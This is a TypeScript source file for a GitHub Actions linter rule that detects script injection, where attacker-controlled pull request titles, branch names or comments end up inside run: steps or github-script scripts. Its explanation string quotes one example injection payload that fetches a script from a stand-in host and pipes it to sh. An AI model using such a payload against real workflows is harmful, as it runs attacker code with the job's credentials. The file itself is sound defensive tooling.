/**
 * DSTS104: an expression reading attacker-controlled text (a pull request title, a branch name, a comment …) inside
 * `run:` or `actions/github-script`'s `script:`. GitHub substitutes expressions into the script before the shell
 * or Node.js sees it, so the text becomes code: script injection.
 */
import { expressionsIn, normaliseExpression, untrustedInput } from '../expressions.js';
import type { Text } from '../model.js';
import { viaAlias } from '../model.js';
import type { Hit } from '../types.js';
import { runsPullRequestCode } from './pr-code-in-privileged-job.js';
import { UNTRUSTED_TRIGGERS, actionRef, jobLabel, matchPosition, runsOn, stepLabel, usesAction, type JobContext, type WorkflowRule } from './rule.js';

/** `needs.JOB.outputs.NAME` of a job that ran the pull request's code (on an event a fork triggers): its text is the pull request's. */
function pullRequestOutput(ctx: JobContext, body: string): string | undefined {
  if (runsOn(ctx, UNTRUSTED_TRIGGERS).length === 0) return undefined;
  for (const m of normaliseExpression(body).matchAll(/(?<![\w.])needs\.([\w-]+)\.outputs\b(?:\.[\w-]+)?/g)) {
    const job = ctx.workflow.jobs.find((j) => j.id.toLowerCase() === m[1]);
    if (job && runsPullRequestCode(ctx.workflow, job)) return `${m[0]} (job "${job.id}" runs the pull request's code)`;
  }
  return undefined;
}

export const untrustedExpression: WorkflowRule = {
  id: 'DSTS104',
  name: 'untrusted-expression',
  severity: 'error',
  jobs: 'privileged',
  summary: 'An expression that reads attacker-controlled text (github.event.pull_request.title, github.head_ref, github.event.comment.body, …) is written inside run: or a github-script script:.',
  why: 'GitHub pastes the text into the script before it runs, so a pull request title or branch name such as `"; curl evil.sh | sh; "` becomes code running with the job\'s OIDC token (script injection).',
  fix: 'Pass the value through env: (e.g. env: TITLE: ${{ github.event.pull_request.title }}) and use "$TITLE" (quoted) in the script, or process.env.TITLE in github-script.',
  checkJob(ctx: JobContext): Hit[] {
    const hits: Hit[] = [];
    for (const step of ctx.job.steps) {
      const scripts: { text: Text; where: string }[] = [];
      if (step.run) scripts.push({ text: step.run, where: 'run:' });
      const script = step.with.get('script');
      if (script && usesAction(step, 'actions/github-script')) scripts.push({ text: script, where: 'script:' });
      // A `docker://` step's `args:` (and `entrypoint:`) is its command line: `args: sh -c "… ${{ github.head_ref }}"`.
      if (step.uses && actionRef(step.uses.value).kind === 'docker') {
        for (const key of ['args', 'entrypoint']) {
          const text = step.with.get(key);
          if (text) scripts.push({ text, where: `${key}:` });
        }
      }
      if (scripts.length === 0) continue;
      // A step's own env: can carry untrusted text too (and shadows the job's names).
      const taintedEnv = new Set(ctx.taintedEnv);
      for (const [name, value] of step.env) {
        if (expressionsIn(value.value).some((e) => untrustedInput(e.body, { env: new Set(), matrix: new Set(), inputs: ctx.taintedInputs }) !== undefined)) taintedEnv.add(name);
        else taintedEnv.delete(name);
      }
      for (const { text, where } of scripts) {
        for (const expr of expressionsIn(text.value)) {
          const input = untrustedInput(expr.body, { env: taintedEnv, matrix: ctx.taintedMatrix, inputs: ctx.taintedInputs }) ?? pullRequestOutput(ctx, expr.body);
          if (!input) continue;
          hits.push({
            file: ctx.workflow.file,
            at: matchPosition(ctx.workflow, text, expr.index, expr.text),
            what: `${jobLabel(ctx)} ${ctx.privilege}, and ${stepLabel(step)} writes \`${expr.text}\` (untrusted: ${input}) inside ${where}${viaAlias(text)}`,
          });
        }
      }
    }
    return hits;
  },
};
